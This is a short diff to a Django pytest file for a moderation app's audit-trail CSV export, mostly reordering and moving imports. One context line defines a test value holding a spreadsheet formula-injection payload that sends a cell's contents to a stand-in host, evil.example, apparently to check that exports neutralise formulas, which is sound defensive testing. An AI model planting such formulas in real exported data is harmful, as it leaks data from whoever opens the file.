@@ -9,10 +9,10 @@ from datetime import datetime
 
 import pytest
 from django.db import connection
-from moderation import services
 
 from audit.chain import event_hash
 from audit.models import AuditEvent
+from moderation import services
 from tests.audit_triggers import audit_triggers_disabled
 
 pytestmark = pytest.mark.django_db
@@ -61,8 +61,8 @@ def _unguard(value: str) -> str:
 def test_clip_trail_exports_as_csv_with_every_field(moderator_client, clip, decided):
     from django.db import transaction
 
-    from audit.actors import Actor
     from audit.services import audit_record
+    from core.actors import Actor
 
     # A name chosen to run as a formula in whatever spreadsheet a moderator opens the file in.
     hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
